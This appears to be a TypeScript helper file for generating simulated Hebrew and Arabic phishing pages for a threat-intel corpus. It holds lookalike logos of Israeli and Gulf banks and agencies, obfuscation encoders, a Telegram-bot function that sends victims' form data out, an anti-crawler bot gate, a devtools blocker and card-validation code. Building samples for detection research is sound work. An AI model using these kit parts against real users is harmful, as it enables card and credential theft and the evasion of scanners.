import type { Route } from '../../corpus/corpus.js';

/**
 * Shared helpers for the `yu-` pages (Israeli / Gulf fintech threat-intel persona): page shells for
 * right-to-left Hebrew and Arabic pages, brand marks as inline SVG, encoders used by the kits, and
 * a few small route builders. Parts hold no pages.
 */

export const esc = (s: string): string => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');

export const b64 = (s: string): string => Buffer.from(s, 'utf8').toString('base64');
export const hex = (s: string): string => Buffer.from(s, 'utf8').toString('hex');
/** UTF-16 code units, as String.fromCharCode expects. */
export const codes = (s: string): string => s.split('').map((c) => c.charCodeAt(0)).join(',');
/** XOR every UTF-8 byte with the repeating key, then base64: the "encrypted blob" many kits decode at load. */
export const xorB64 = (s: string, key: string): string => {
  const src = Buffer.from(s, 'utf8');
  const k = Buffer.from(key, 'utf8');
  return Buffer.from(src.map((b, i) => b ^ (k[i % k.length] ?? 0))).toString('base64');
};
/** Latin-1 safe XOR decoder the kits ship inline (expects the key as a JS string literal). */
export const xorDecoderJs = (fn = '_d'): string =>
  `function ${fn}(b,k){var s=atob(b),o=new Uint8Array(s.length);for(var i=0;i<s.length;i++)o[i]=s.charCodeAt(i)^k.charCodeAt(i%k.length);return new TextDecoder().decode(o)}`;
export const reverse = (s: string): string => s.split('').reverse().join('');
/** Cut a string into n-char pieces, returned as a JS array literal. */
export const chunks = (s: string, n = 6): string => JSON.stringify(s.match(new RegExp(`[\\s\\S]{1,${n}}`, 'g')) ?? []);

export type DocOpts = { title: string; lang: string; dir?: 'rtl' | 'ltr'; head?: string; css?: string; body: string; bodyAttr?: string };

export function doc(o: DocOpts): string {
  const dir = o.dir ?? (o.lang === 'he' || o.lang === 'ar' ? 'rtl' : 'ltr');
  return `<!DOCTYPE html>
<html lang="${o.lang}" dir="${dir}">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>${o.title}</title>
${o.head ?? ''}
<style>${o.css ?? ''}</style>
</head>
<body${o.bodyAttr ? ' ' + o.bodyAttr : ''}>
${o.body}
</body>
</html>`;
}

export const FONT_HE = `'Assistant','Rubik','Segoe UI',Arial,sans-serif`;
export const FONT_AR = `'Tajawal','Noto Kufi Arabic','Segoe UI',Tahoma,sans-serif`;

// ----------------------------------------------------------------------------- brand marks

const mark = (w: number, h: number, inner: string, label: string): string =>
  `<svg xmlns="http://www.w3.org/2000/svg" width="${w}" height="${h}" viewBox="0 0 ${w} ${h}" role="img" aria-label="${label}">${inner}</svg>`;

export const LOGO = {
  hapoalim: mark(150, 40, `<rect x="110" y="2" width="36" height="36" rx="6" fill="#e30613"/><path d="M120 30V10h9a6 6 0 0 1 0 12h-5" stroke="#fff" stroke-width="4" fill="none"/><text x="104" y="26" text-anchor="end" font-family="Arial" font-weight="700" font-size="15" fill="#222">בנק הפועלים</text>`, 'בנק הפועלים'),
  leumi: mark(130, 40, `<circle cx="112" cy="20" r="16" fill="#0069b4"/><path d="M104 12v16h14" stroke="#fff" stroke-width="4" fill="none"/><text x="90" y="27" text-anchor="end" font-family="Arial" font-weight="700" font-size="20" fill="#0069b4">לאומי</text>`, 'בנק לאומי'),
  discount: mark(150, 40, `<rect x="116" y="4" width="30" height="32" rx="4" fill="#2a9d46"/><text x="131" y="28" text-anchor="middle" font-family="Arial" font-weight="700" font-size="22" fill="#fff">D</text><text x="110" y="27" text-anchor="end" font-family="Arial" font-weight="700" font-size="17" fill="#2a9d46">דיסקונט</text>`, 'בנק דיסקונט'),
  mizrahi: mark(170, 40, `<path d="M150 4l16 16-16 16-16-16z" fill="#f7941d"/><text x="128" y="26" text-anchor="end" font-family="Arial" font-weight="700" font-size="15" fill="#5a2d82">מזרחי טפחות</text>`, 'בנק מזרחי טפחות'),
  fibi: mark(160, 40, `<rect x="124" y="6" width="32" height="28" fill="#004b87"/><text x="140" y="26" text-anchor="middle" font-family="Arial" font-size="13" font-weight="700" fill="#fff">FIBI</text><text x="118" y="26" text-anchor="end" font-family="Arial" font-size="14" fill="#004b87">הבינלאומי</text>`, 'הבנק הבינלאומי'),
  isracard: mark(140, 40, `<rect x="4" y="6" width="52" height="28" rx="5" fill="#1c3f94"/><circle cx="22" cy="20" r="8" fill="#f4b400"/><text x="64" y="26" font-family="Arial" font-size="16" font-weight="700" fill="#1c3f94">ישראכרט</text>`, 'ישראכרט'),
  bit: mark(80, 40, `<rect x="2" y="2" width="76" height="36" rx="18" fill="#00b4b4"/><text x="40" y="27" text-anchor="middle" font-family="Arial Rounded MT Bold,Arial" font-size="22" font-weight="700" fill="#fff">bit</text>`, 'bit'),
  paybox: mark(120, 40, `<rect x="2" y="6" width="28" height="28" rx="7" fill="#1e6bff"/><path d="M10 14h12v12H10z" fill="#fff"/><text x="38" y="27" font-family="Arial" font-size="20" font-weight="700" fill="#1e6bff">PayBox</text>`, 'PayBox'),
  post: mark(150, 40, `<rect x="116" y="4" width="32" height="32" rx="3" fill="#d71920"/><path d="M122 14l10 8 10-8" stroke="#fff" stroke-width="3" fill="none"/><text x="110" y="27" text-anchor="end" font-family="Arial" font-size="16" font-weight="700" fill="#d71920">דואר ישראל</text>`, 'דואר ישראל'),
  govil: mark(110, 40, `<path d="M92 32V14M84 32V18M100 32V18M76 32V22M108 32V22" stroke="#1c4b9c" stroke-width="2.5"/><rect x="74" y="32" width="36" height="4" fill="#1c4b9c"/><text x="66" y="27" text-anchor="end" font-family="Arial" font-size="17" font-weight="700" fill="#1c4b9c">gov.il</text>`, 'gov.il'),
  btl: mark(170, 40, `<circle cx="150" cy="20" r="15" fill="#00539f"/><text x="150" y="25" text-anchor="middle" font-family="Arial" font-size="12" font-weight="700" fill="#fff">ב״ל</text><text x="130" y="26" text-anchor="end" font-family="Arial" font-size="16" font-weight="700" fill="#00539f">ביטוח לאומי</text>`, 'המוסד לביטוח לאומי'),
  enbd: mark(170, 40, `<rect x="2" y="4" width="32" height="32" fill="#072a5e"/><path d="M8 30L18 10l10 20" stroke="#f5a800" stroke-width="4" fill="none"/><text x="42" y="26" font-family="Arial" font-size="16" font-weight="700" fill="#072a5e">Emirates NBD</text>`, 'Emirates NBD'),
  adcb: mark(100, 40, `<rect x="2" y="6" width="96" height="28" fill="#e11d2e"/><text x="50" y="27" text-anchor="middle" font-family="Arial" font-size="19" font-weight="700" fill="#fff">ADCB</text>`, 'ADCB'),
  uaepass: mark(140, 40, `<circle cx="20" cy="20" r="16" fill="none" stroke="#00843d" stroke-width="4"/><circle cx="20" cy="20" r="6" fill="#00843d"/><text x="44" y="27" font-family="Arial" font-size="18" font-weight="700" fill="#1b1b1b">UAE PASS</text>`, 'UAE PASS'),
  aramex: mark(120, 40, `<text x="4" y="28" font-family="Arial" font-size="24" font-weight="700" fill="#e30613">aramex</text>`, 'Aramex'),
  salik: mark(100, 40, `<rect x="2" y="8" width="24" height="24" rx="12" fill="#0b8a4c"/><text x="32" y="28" font-family="Arial" font-size="20" font-weight="700" fill="#0b8a4c">salik</text>`, 'Salik'),
  arabbank: mark(160, 40, `<path d="M20 4l14 32H6z" fill="#a6192e"/><text x="42" y="26" font-family="Arial" font-size="16" font-weight="700" fill="#a6192e">البنك العربي</text>`, 'Arab Bank'),
  microsoft: mark(108, 24, `<rect width="10" height="10" fill="#f25022"/><rect x="11" width="10" height="10" fill="#7fba00"/><rect y="11" width="10" height="10" fill="#00a4ef"/><rect x="11" y="11" width="10" height="10" fill="#ffb900"/><text x="28" y="17" font-family="Segoe UI,Arial" font-size="15" fill="#737373">Microsoft</text>`, 'Microsoft'),
  cloudflare: mark(120, 36, `<path d="M30 26h54a10 10 0 0 0-4-19 16 16 0 0 0-30 4 9 9 0 0 0-20 8 7 7 0 0 0 0 7z" fill="#f38020"/><text x="90" y="24" font-family="Arial" font-size="10" fill="#404040">Cloudflare</text>`, 'Cloudflare'),
  metamask: mark(36, 36, `<path d="M4 4l13 10-3-7zM32 4L19 14l3-7zM9 26l4 6 6-2zM27 26l-4 6-6-2zM8 16l4 6h12l4-6-10 2z" fill="#e2761b"/>`, 'MetaMask'),
};

export const FAVICON_SVG = (color: string): string =>
  `<link rel="icon" href="data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' viewBox='0 0 16 16'%3E%3Crect width='16' height='16' rx='3' fill='%23${color.replace('#', '')}'/%3E%3C/svg%3E">`;

// ----------------------------------------------------------------------------- kit snippets

/**
 * The Telegram drop most Israeli smishing kits ship: the bot token split in pieces and rejoined at run
 * time, the victim's fields sent as one sendMessage. Returns a JS function `fnName(obj)`.
 */
export function telegramDrop(token: string, chatId: string, fnName = 'snd'): string {
  const parts = token.match(/.{1,7}/g) ?? [token];
  return `var _tp=${JSON.stringify(parts)};var _ci="${chatId}";
function ${fnName}(o){var t="";for(var k in o){t+=k+": "+o[k]+"\\n"}
t+="IP: "+(window._ip||"?")+"\\nUA: "+navigator.userAgent;
return fetch("https://api.telegram.org/bot"+_tp.join("")+"/sendMessage",{method:"POST",headers:{"Content-Type":"application/json"},body:JSON.stringify({chat_id:_ci,text:t,parse_mode:"HTML"})}).catch(function(){})}`;
}

/** The usual client-side bot filter: headless flags, no plugins, wrong language, tiny screen. */
export const BOT_GATE = `function _isBot(){var n=navigator;if(n.webdriver)return true;if(/HeadlessChrome|PhantomJS|bot|crawl|spider|Lighthouse|python|curl/i.test(n.userAgent))return true;if(!n.languages||n.languages.length===0)return true;if(screen.width<320||screen.height<320)return true;return false}`;

export const NO_INSPECT = `document.addEventListener("contextmenu",function(e){e.preventDefault()});document.onkeydown=function(e){if(e.keyCode==123||(e.ctrlKey&&e.shiftKey&&(e.keyCode==73||e.keyCode==74))||(e.ctrlKey&&e.keyCode==85))return false};`;

/** Luhn check as kits use it to reject typos before exfiltrating a card. */
export const LUHN_JS = `function luhn(n){n=n.replace(/\\D/g,"");var s=0,a=false;for(var i=n.length-1;i>=0;i--){var d=+n[i];if(a){d*=2;if(d>9)d-=9}s+=d;a=!a}return n.length>=13&&s%10==0}`;

/** Israeli ID (Teudat Zehut) check digit, which both the kits and the real banks validate. */
export const TZ_JS = `function tzOk(id){id=String(id).trim();if(id.length>9||!/^\\d+$/.test(id))return false;id=id.padStart(9,"0");var s=0;for(var i=0;i<9;i++){var x=+id[i]*((i%2)+1);s+=x>9?x-9:x}return s%10==0}`;

// ----------------------------------------------------------------------------- routes

export const textRoute = (body: string | Buffer, contentType: string, headers: Record<string, string> = {}): Route => ({
  status: 200,
  headers: { 'content-type': contentType, ...headers },
  body,
});

/** A small but well-formed one-page PDF with the given text lines. */
export function pdf(lines: string[]): Buffer {
  const text = lines.map((l, i) => `BT /F1 11 Tf 56 ${780 - i * 16} Td (${l.replace(/[()\\]/g, '')}) Tj ET`).join('\n');
  const objs = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R >>',
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    `<< /Length ${Buffer.byteLength(text, 'latin1')} >>\nstream\n${text}\nendstream`,
  ];
  let out = '%PDF-1.4\n%\xe2\xe3\xcf\xd3\n';
  const offs: number[] = [];
  objs.forEach((o, i) => {
    offs.push(Buffer.byteLength(out, 'latin1'));
    out += `${i + 1} 0 obj\n${o}\nendobj\n`;
  });
  const xref = Buffer.byteLength(out, 'latin1');
  out += `xref\n0 ${objs.length + 1}\n0000000000 65535 f \n${offs.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`).join('')}`;
  out += `trailer\n<< /Size ${objs.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(out, 'latin1');
}

/** PowerShell -EncodedCommand form (UTF-16LE, base64). */
export const psEnc = (s: string): string => Buffer.from(s, 'utf16le').toString('base64');
